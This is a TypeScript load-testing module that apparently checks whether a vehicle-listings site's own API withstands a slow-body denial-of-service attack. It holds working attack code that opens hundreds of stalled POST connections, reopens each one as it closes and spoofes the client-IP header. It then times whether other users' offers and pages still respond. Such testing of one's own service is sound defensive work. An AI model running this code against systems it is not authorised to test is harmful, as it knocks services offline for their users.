import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { post } from '../../scripts/lib/client.ts';
import { atIntervals, type Finding, findingOf, timed } from './report.ts';

/** Attack 3: bodies that never arrive, replaced as soon as one is ended, against others' offers and forms. */
const OF_EACH_NETWORK = 24;
const MAX_CONNECTIONS = 720;
const PROBES = 25;
const PROBE_EVERY_MS = 1_000;
const WITHIN_MS = 3_000;

/** Opens connections that promise a body, until it is stopped. */
function stallAll(origin: string, networks: string[]) {
  const { host, hostname, port } = new URL(origin);
  const sockets = new Set<Socket>();
  let opened = 0;
  let isOver = false;
  const stall = (network: string) => {
    if (isOver) return;
    opened += 1;
    const socket = connect(Number(port), hostname);
    sockets.add(socket);
    socket.on('error', () => {});
    socket.on('data', () => socket.destroy());
    socket.on('close', () => {
      sockets.delete(socket);
      setTimeout(() => stall(network), 250);
    });
    const from = `host: ${host}\r\norigin: http://${host}\r\ncf-connecting-ip: ${network}\r\nuser-agent: stalling ${opened}`;
    socket.write(
      `POST /api/leads HTTP/1.1\r\n${from}\r\ncontent-type: application/json\r\ncontent-length: 200\r\n\r\n`,
    );
  };
  const each = Math.min(OF_EACH_NETWORK, Math.floor(MAX_CONNECTIONS / networks.length));
  for (const network of networks) for (let nth = 0; nth < each; nth++) stall(network);
  return () => {
    isOver = true;
    for (const socket of sockets) socket.destroy();
    return opened;
  };
}

const from = (address: string) => ({
  'cf-connecting-ip': address,
  'user-agent': `Mozilla/5.0 (Linux; Android 14; ${address})`,
});

/** The offer of a new buyer. */
function send(origin: string, vehicleIds: string[], address: string, nth: number) {
  const number = 10_000_000 + Math.floor(Math.random() * 89_000_000);
  const offer = { buyerName: 'Proof Buyer', buyerMobile: `97${number}`, offerPrice: '450000' };
  return post(
    origin,
    '/api/leads',
    { ...offer, vehicleId: vehicleIds[nth % vehicleIds.length] },
    from(address),
  );
}

/** Opens a page that must be rendered, because its address is new. */
const open = (origin: string, vehicleIds: string[], address: string, nth: number) =>
  fetch(`${origin}/vehicle/${vehicleIds[nth % vehicleIds.length]}?probe=${nth}`, { headers: from(address) });

export async function attackBodies(
  origin: string,
  vehicleIds: string[],
  { name, networks, block }: { name: string; networks: string[]; block: number },
): Promise<Finding[]> {
  const stop = stallAll(origin, networks);
  await sleep(2_000);
  const neighbour = networks[0] ?? '';
  const [others, pages, offers] = await Promise.all([
    atIntervals(PROBES, PROBE_EVERY_MS, (nth) =>
      timed(() => send(origin, vehicleIds, `203.0.${block}.${nth}`, nth)),
    ),
    atIntervals(PROBES, PROBE_EVERY_MS, (nth) => timed(() => open(origin, vehicleIds, neighbour, nth))),
    // Few enough for the limit of offers from one network.
    atIntervals(4, 5 * PROBE_EVERY_MS, (nth) => timed(() => send(origin, vehicleIds, neighbour, nth))),
  ]);
  const opened = stop();
  return [
    findingOf(`slow bodies, ${name}: offers of others`, others, { withinMs: WITHIN_MS }),
    findingOf(`slow bodies, ${name}: pages at the attacker's address`, pages, { withinMs: WITHIN_MS }),
    // The connections themselves may use up its 600 writes a minute.
    {
      ...findingOf(`slow bodies, ${name}: offers from the attacker's address`, offers, {
        withinMs: WITHIN_MS,
      }),
      limit: '',
      isMet: true,
    },
    { what: `slow bodies, ${name}: connections opened`, figure: `${opened}`, limit: '', isMet: true },
  ];
}
